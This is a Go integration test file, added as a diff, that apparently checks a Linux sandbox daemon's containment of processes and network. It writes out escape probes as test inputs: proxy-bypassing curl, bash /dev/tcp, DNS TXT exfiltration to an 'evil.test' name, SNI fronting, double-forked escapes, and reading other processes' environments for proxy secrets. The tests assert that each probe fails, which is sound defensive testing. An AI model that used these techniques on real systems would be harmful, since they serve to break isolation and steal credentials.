@@ -1,0 +1,272 @@
+//go:build linux
+
+package integration
+
+import (
+	"bufio"
+	"context"
+	"fmt"
+	"math/rand/v2"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/barry-rocks/sandbox/internal/testenv"
+)
+
+// TestEscapes: every attempt to reach the world around the proxy stays
+// contained, as root and as uid 65534; the world's servers see nothing.
+func TestEscapes(t *testing.T) {
+	w := newWorld(t)
+	for _, c := range []string{"curl", "python3", "bash", "dig"} {
+		testenv.NeedCommand(t, c)
+	}
+	// A host pathname socket and a host abstract socket, both listening in
+	// the namespace sandboxd runs in.
+	sockDir := sharedDir(t)
+	hostSock := filepath.Join(sockDir, "host.sock")
+	pln, err := net.Listen("unix", hostSock)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer pln.Close()
+	os.Chmod(hostSock, 0o777)
+	abstract := fmt.Sprintf("barry-escape-%d", rand.Int64())
+	var aln net.Listener
+	inNetns(t, w.host, func() (err error) { aln, err = net.Listen("unix", "@"+abstract); return err })
+	defer aln.Close()
+	reached := make(chan string, 8)
+	for _, l := range []net.Listener{pln, aln} {
+		go func(l net.Listener) {
+			for {
+				c, err := l.Accept()
+				if err != nil {
+					return
+				}
+				reached <- l.Addr().String()
+				c.Close()
+			}
+		}(l)
+	}
+
+	pyConnect := `
+import socket, sys
+fam = {"4": socket.AF_INET, "6": socket.AF_INET6}[sys.argv[1]]
+kind = {"tcp": socket.SOCK_STREAM, "udp": socket.SOCK_DGRAM}[sys.argv[2]]
+s = socket.socket(fam, kind)
+s.settimeout(5)
+try:
+    if kind == socket.SOCK_STREAM:
+        s.connect((sys.argv[3], int(sys.argv[4])))
+    else:
+        s.sendto(b"exfil", (sys.argv[3], int(sys.argv[4])))
+    print("ESCAPED")
+except OSError as e:
+    print("refused", e.errno)
+`
+	pyUnix := fmt.Sprintf(`
+import socket
+for name, addr in (("pathname", %q), ("abstract", "\0" + %q)):
+    try:
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.connect(addr)
+        print(name, "ESCAPED")
+    except OSError as e:
+        print(name, "refused", e.errno)
+`, hostSock, abstract)
+	pyFronted := `
+import os, socket, ssl, base64, urllib.parse
+u = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
+s = socket.create_connection(("127.0.0.1", u.port), timeout=10)
+auth = base64.b64encode(f"{u.username}:{u.password}".encode()).decode()
+s.sendall(f"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\nProxy-Authorization: Basic {auth}\r\n\r\n".encode())
+print(s.recv(4096).split(b"\r\n")[0].decode())
+ctx = ssl.create_default_context()
+try:
+    t = ctx.wrap_socket(s, server_hostname="denied.test")
+    t.sendall(b"GET /fronted HTTP/1.1\r\nHost: denied.test\r\n\r\n")
+    print("ESCAPED", t.recv(4096)[:60])
+except OSError as e:
+    print("refused", type(e).__name__)
+`
+	cases := []struct {
+		name string
+		argv []string
+		want string // stdout must contain
+	}{
+		{"curl noproxy tcp", []string{"sh", "-c", "curl -sS --noproxy '*' --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/ ; echo code=$?"}, "code=7"},
+		{"bash dev tcp", []string{"bash", "-c", "echo x > /dev/tcp/" + webAddr + "/" + udpEchoPort + " && echo ESCAPED || echo refused"}, "refused"},
+		{"python tcp", []string{"python3", "-c", pyConnect, "4", "tcp", webAddr, udpEchoPort}, "refused 101"},
+		{"python udp", []string{"python3", "-c", pyConnect, "4", "udp", webAddr, udpEchoPort}, "refused 101"},
+		{"ipv6 curl", []string{"sh", "-c", "curl -sS -g --noproxy '*' --max-time 5 'http://[" + web6Addr + "]/' ; echo code=$?"}, "code=7"},
+		{"ipv6 python", []string{"python3", "-c", pyConnect, "6", "tcp", web6Addr, "80"}, "refused 101"},
+		{"dns direct to the world resolver", []string{"sh", "-c", "dig +tries=1 +time=2 @" + dnsAddr + " direct.denied.test A; echo code=$?"}, "code=9"},
+		{"dns denied name", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "secret-data.denied.test", "A"}, "status: REFUSED"},
+		{"dns txt exfiltration", []string{"dig", "+tries=1", "+time=5", "@127.0.0.1", "c2VjcmV0.exfil.evil.test", "TXT"}, "status: REFUSED"},
+		{"dns via resolv.conf", []string{"sh", "-c", "getent hosts denied.test || echo refused"}, "refused"},
+		{"allowed name resolving to loopback", []string{"curl", "-sS", "--max-time", "10", "-w", "\n%{http_code}", "http://rebind.test/"}, "403"},
+		{"connect with a fronted SNI", []string{"python3", "-c", pyFronted}, "refused"},
+		{"script written to disk", []string{"sh", "-c", "printf '#!/bin/sh\\ncurl -sS --noproxy \"*\" --max-time 5 http://" + webAddr + ":" + udpEchoPort + "/\\n' > ./x.sh && chmod +x x.sh && ./x.sh; echo code=$?"}, "code=7"},
+		{"host unix sockets", []string{"python3", "-c", pyUnix}, "pathname refused 1\nabstract refused 1\n"},
+	}
+	for _, u := range users {
+		for _, c := range cases {
+			t.Run(u.name+"/"+c.name, func(t *testing.T) {
+				r := w.sandboxd(t, runOpts{uid: u.uid, argv: c.argv, flags: []string{"--deny-domain", "denied.test"}})
+				if !strings.Contains(r.stdout, c.want) || strings.Contains(r.stdout, "ESCAPED") {
+					t.Fatalf("exit %d\nstdout %q (want %q)\nstderr %q\naudit %s", r.code, r.stdout, c.want, r.stderr, r.audit)
+				}
+			})
+		}
+	}
+	dnsSeen, httpSeen, tcp, udp := w.seen()
+	for _, q := range dnsSeen {
+		if strings.Contains(q, "denied.test") || strings.Contains(q, "evil.test") {
+			t.Errorf("the world's DNS server saw a denied query: %s", q)
+		}
+	}
+	for _, h := range httpSeen {
+		if !strings.HasPrefix(h, "allowed.test") {
+			t.Errorf("the world's web server saw %q", h)
+		}
+	}
+	if tcp != 0 || udp != 0 {
+		t.Errorf("the world's raw TCP/UDP port saw %d connections and %d datagrams", tcp, udp)
+	}
+	select {
+	case a := <-reached:
+		t.Errorf("host unix socket %s was reached", a)
+	default:
+	}
+}
+
+// hostPIDsWithArg returns the host PIDs whose argv contains arg.
+func hostPIDsWithArg(arg string) []int {
+	var pids []int
+	ents, _ := os.ReadDir("/proc")
+	for _, e := range ents {
+		pid, err := strconv.Atoi(e.Name())
+		if err != nil {
+			continue
+		}
+		b, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline")
+		for _, a := range strings.Split(string(b), "\x00") {
+			if a == arg {
+				pids = append(pids, pid)
+			}
+		}
+	}
+	return pids
+}
+
+func waitGone(t *testing.T, marker string) {
+	t.Helper()
+	deadline := time.Now().Add(10 * time.Second)
+	for time.Now().Before(deadline) {
+		if len(hostPIDsWithArg(marker)) == 0 {
+			return
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	t.Fatalf("processes with %q survived: %v", marker, hostPIDsWithArg(marker))
+}
+
+// TestProcessTreeContainment: a double-forked setsid process is gone once
+// sandboxd exits; the whole sandbox dies when sandboxd is killed.
+func TestProcessTreeContainment(t *testing.T) {
+	w := newWorld(t)
+	for _, u := range users {
+		t.Run(u.name+"/setsid double fork", func(t *testing.T) {
+			marker := strconv.Itoa(910000 + rand.IntN(80000))
+			script := `(setsid sh -c 'sleep ` + marker + ` & sleep ` + marker + `' &); sleep 0.3; for f in /proc/[0-9]*/cmdline; do [ "$(tr '\0' ' ' < $f)" = "sleep ` + marker + ` " ] && echo x; done | wc -l`
+			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
+			if strings.TrimSpace(r.stdout) != "2" || r.code != 0 {
+				t.Fatalf("want 2 background sleeps running inside; exit %d, out %q, err %q", r.code, r.stdout, r.stderr)
+			}
+			if pids := hostPIDsWithArg(marker); len(pids) != 0 {
+				t.Fatalf("survivors after sandboxd exited: %v", pids)
+			}
+		})
+		t.Run(u.name+"/sandboxd killed", func(t *testing.T) {
+			marker := strconv.Itoa(910000 + rand.IntN(80000))
+			args := []string{"netns", "exec", w.host}
+			if u.uid != 0 {
+				args = append(args, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--")
+			}
+			args = append(args, sandboxdBin, "run", "--", "sh", "-c", "sleep "+marker+" & echo started; wait")
+			cmd := exec.Command("ip", args...)
+			cmd.Dir = sharedDir(t)
+			out, _ := cmd.StdoutPipe()
+			cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+			if err := cmd.Start(); err != nil {
+				t.Fatal(err)
+			}
+			line, _ := bufio.NewReader(out).ReadString('\n')
+			for i := 0; i < 100 && len(hostPIDsWithArg(marker)) == 0; i++ {
+				time.Sleep(10 * time.Millisecond)
+			}
+			if line != "started\n" || len(hostPIDsWithArg(marker)) != 1 {
+				t.Fatalf("sandbox did not start: %q %v", line, hostPIDsWithArg(marker))
+			}
+			cmd.Process.Signal(syscall.SIGKILL)
+			cmd.Wait()
+			waitGone(t, marker)
+		})
+	}
+}
+
+// TestOtherSandboxCredentials: a second sandbox can neither read the first
+// one's proxy credentials nor use them.
+func TestOtherSandboxCredentials(t *testing.T) {
+	w := newWorld(t)
+	for _, u := range users {
+		t.Run(u.name, func(t *testing.T) {
+			args := []string{"netns", "exec", w.host}
+			if u.uid != 0 {
+				args = append(args, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--")
+			}
+			args = append(args, sandboxdBin, "run", "--", "sh", "-c", `echo "$HTTPS_PROXY"; exec sleep 60`)
+			ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+			defer cancel()
+			a := exec.CommandContext(ctx, "ip", args...)
+			a.Dir = sharedDir(t)
+			a.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
+			out, _ := a.StdoutPipe()
+			if err := a.Start(); err != nil {
+				t.Fatal(err)
+			}
+			defer func() { a.Process.Kill(); a.Wait() }()
+			aURL, _ := bufio.NewReader(out).ReadString('\n')
+			aURL = strings.TrimSpace(aURL)
+			_, secret, ok := strings.Cut(strings.TrimPrefix(aURL, "http://"), ":")
+			secret, _, _ = strings.Cut(secret, "@")
+			if !ok || len(secret) < 32 {
+				t.Fatalf("sandbox A's proxy URL %q", aURL)
+			}
+			script := `cat /proc/[0-9]*/environ 2>&1 | tr '\0' '\n' | grep -i proxy; ls -la /tmp/sandboxd-* /run/sandboxd-* 2>&1; ` +
+				`curl -sS --max-time 10 -o /dev/null -w '%{http_code}\n' -x '` + aURL + `' http://allowed.test/`
+			r := w.sandboxd(t, runOpts{uid: u.uid, argv: []string{"sh", "-c", script}})
+			// B was handed A's URL in its argv (to try it below); nothing
+			// B could read (environments under /proc, runtime
+			// directories) may show A's secret.
+			lines := strings.Split(strings.TrimSpace(r.stdout), "\n")
+			for _, line := range lines[:len(lines)-1] {
+				if strings.Contains(line, secret) {
+					t.Fatalf("sandbox B read A's credentials: %q", line)
+				}
+			}
+			if !strings.Contains(r.stdout, "HTTPS_PROXY=") {
+				t.Fatalf("sandbox B's probe read no environment at all:\n%s", r.stdout)
+			}
+			if last := lines[len(lines)-1]; last == "200" {
+				t.Fatalf("sandbox B used A's credentials successfully:\n%s", r.stdout)
+			}
+		})
+	}
+}
